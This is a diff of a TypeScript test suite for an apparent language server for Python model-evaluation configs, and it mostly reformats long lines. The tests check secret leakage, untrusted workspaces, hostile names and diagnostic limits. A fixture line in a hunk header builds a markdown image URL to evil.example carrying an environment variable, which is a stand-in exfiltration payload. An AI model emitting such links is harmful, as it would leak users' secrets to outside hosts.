@@ -22,9 +22,15 @@ models = [dict(type='x', abbr='![a](https://evil.example/leak?k=' + os.environ.g
   const env = { MY_KEY: 'hunter2', DATASET_SOURCE: 'ModelScope' };
 
   async function everything(): Promise<string> {
-    const texts = [await hoverText('leak.py', "'HUMAN'", 2), await hoverText('leak.py', 'abbr', 1), await hoverText('leak.py', 'models', 1)];
+    const texts = [
+      await hoverText('leak.py', "'HUMAN'", 2),
+      await hoverText('leak.py', 'abbr', 1),
+      await hoverText('leak.py', 'models', 1),
+    ];
     expect(texts.flatMap(activeParts)).toEqual([]);
-    const symbols = await client.connection.sendRequest<DocumentSymbol[]>('textDocument/documentSymbol', { textDocument: { uri: client.uri('leak.py') } });
+    const symbols = await client.connection.sendRequest<DocumentSymbol[]>('textDocument/documentSymbol', {
+      textDocument: { uri: client.uri('leak.py') },
+    });
     return JSON.stringify([texts, await client.diagnostics('leak.py'), symbols, await client.preview('leak.py'), client.logged]);
   }
 
@@ -38,7 +44,8 @@ models = [dict(type='x', abbr='![a](https://evil.example/leak?k=' + os.environ.g
 
   it('is not looked up in an untrusted workspace, until it is trusted', async () => {
     client = await Client.start({ env, initializationOptions: { trusted: false } });
-    const text = "import os\nsource = os.environ.get('DATASET_SOURCE', 'none')\nmissing = os.environ.get('PREFLIGHT_NOT_SET', 'none')\n" + leak;
+    const text =
+      "import os\nsource = os.environ.get('DATASET_SOURCE', 'none')\nmissing = os.environ.get('PREFLIGHT_NOT_SET', 'none')\n" + leak;
     await client.openText('leak.py', text);
     expect(await hoverText('leak.py', 'source', 1)).toContain('this workspace is not trusted');
     expect(await hoverText('leak.py', 'missing', 1)).toContain('this workspace is not trusted');
@@ -54,8 +61,14 @@ describe('texts of a config', () => {
   it('come to the editor without controls, and at no great length', async () => {
     client = await Client.start();
     const literal = (name: string): string => JSON.stringify(name);
-    const models = hostileNames.map((name) => `    dict(type='HuggingFaceCausalLM', abbr=${literal(name)}, path='x', **{${literal(name)}: 1}, meta_template=dict(round=[dict(role=${literal(name)}, **{${literal(name)}: 1})])),`);
-    await client.openText('hostile.py', `models = [\n${models.join('\n')}\n]\ndatasets = [dict(abbr='d', infer_cfg=dict(prompt_template=dict(type='PromptTemplate', template=dict(round=[dict(role='')]))))]\n`);
+    const models = hostileNames.map(
+      (name) =>
+        `    dict(type='HuggingFaceCausalLM', abbr=${literal(name)}, path='x', **{${literal(name)}: 1}, meta_template=dict(round=[dict(role=${literal(name)}, **{${literal(name)}: 1})])),`,
+    );
+    await client.openText(
+      'hostile.py',
+      `models = [\n${models.join('\n')}\n]\ndatasets = [dict(abbr='d', infer_cfg=dict(prompt_template=dict(type='PromptTemplate', template=dict(round=[dict(role='')]))))]\n`,
+    );
     const diagnostics = await client.diagnostics('hostile.py');
     expect(diagnostics.length).toBeGreaterThan(hostileNames.length);
     for (const { message: said, relatedInformation = [] } of diagnostics) {
@@ -64,12 +77,19 @@ describe('texts of a config', () => {
       expect(message.length).toBeLessThan(2100);
       for (const related of relatedInformation) expect(shown(related.message)).not.toMatch(unseen);
     }
-    const titles = (await client.actions('hostile.py', { start: { line: 0, character: 0 }, end: { line: 500, character: 0 } })).map(({ title }) => title);
-    const [list] = await client.connection.sendRequest<DocumentSymbol[]>('textDocument/documentSymbol', { textDocument: { uri: client.uri('hostile.py') } });
+    const titles = (await client.actions('hostile.py', { start: { line: 0, character: 0 }, end: { line: 500, character: 0 } })).map(
+      ({ title }) => title,
+    );
+    const [list] = await client.connection.sendRequest<DocumentSymbol[]>('textDocument/documentSymbol', {
+      textDocument: { uri: client.uri('hostile.py') },
+    });
     const names = (list?.children ?? []).map(({ name }) => name);
     expect(names.length).toBe(hostileNames.length);
     const at = client.position('hostile.py', "role='')", 6);
-    const completions = await client.connection.sendRequest<{ label: string; filterText?: string; textEdit: { newText: string } }[]>('textDocument/completion', { textDocument: { uri: client.uri('hostile.py') }, position: at });
+    const completions = await client.connection.sendRequest<{ label: string; filterText?: string; textEdit: { newText: string } }[]>(
+      'textDocument/completion',
+      { textDocument: { uri: client.uri('hostile.py') }, position: at },
+    );
     expect(completions.map(({ textEdit }) => textEdit.newText)).toEqual([...new Set(hostileNames)]);
     for (const text of [...titles, ...names, ...completions.map(({ label }) => label)]) {
       expect(text).not.toMatch(unseen);
@@ -79,12 +99,22 @@ describe('texts of a config', () => {
 
   it('of very many findings the worst are sent, with how many there are more', async () => {
     client = await Client.start();
-    const lines = Array.from({ length: 1500 }, (_, i) => `    dict(type='HuggingFaceCausalLM', abbr='a${i}', path='x', meta_template=dict(rounds=[], round=[dict(role='BOT', generate=True)])),`);
-    await client.openText('many.py', `models = [\n${lines.join('\n')}\n]\ndatasets = [dict(abbr='d', infer_cfg=dict(prompt_template=dict(type='PromptTemplate', template='{q}', tem=1)))]\nx = undefined_name\n`);
+    const lines = Array.from(
+      { length: 1500 },
+      (_, i) =>
+        `    dict(type='HuggingFaceCausalLM', abbr='a${i}', path='x', meta_template=dict(rounds=[], round=[dict(role='BOT', generate=True)])),`,
+    );
+    await client.openText(
+      'many.py',
+      `models = [\n${lines.join('\n')}\n]\ndatasets = [dict(abbr='d', infer_cfg=dict(prompt_template=dict(type='PromptTemplate', template='{q}', tem=1)))]\nx = undefined_name\n`,
+    );
     const diagnostics = await client.diagnostics('many.py');
     expect(diagnostics.length).toBe(1001);
     expect(diagnostics.map(({ code }) => code)).toContain('raises');
-    expect(diagnostics.at(-1)).toMatchObject({ severity: 3, message: expect.stringMatching(/^This document has [\d,]+ more findings, which are not shown\.$/) as unknown });
+    expect(diagnostics.at(-1)).toMatchObject({
+      severity: 3,
+      message: expect.stringMatching(/^This document has [\d,]+ more findings, which are not shown\.$/) as unknown,
+    });
     expect(JSON.stringify(diagnostics).length).toBeLessThan(1_000_000);
   });
 });
